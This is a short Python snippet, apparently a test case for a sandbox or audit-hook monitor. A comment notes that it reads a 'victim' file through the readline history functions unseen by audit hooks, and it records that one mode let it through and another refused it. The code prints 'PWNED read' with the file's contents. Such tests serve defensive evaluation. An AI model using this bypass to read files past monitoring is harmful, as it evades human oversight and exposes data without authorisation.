# reads the author's file through the readline library, which no audit hook sees | basic: works finished | auto: refused error
import readline

readline.read_history_file(VICTIM)
print("PWNED read", readline.get_history_item(1))
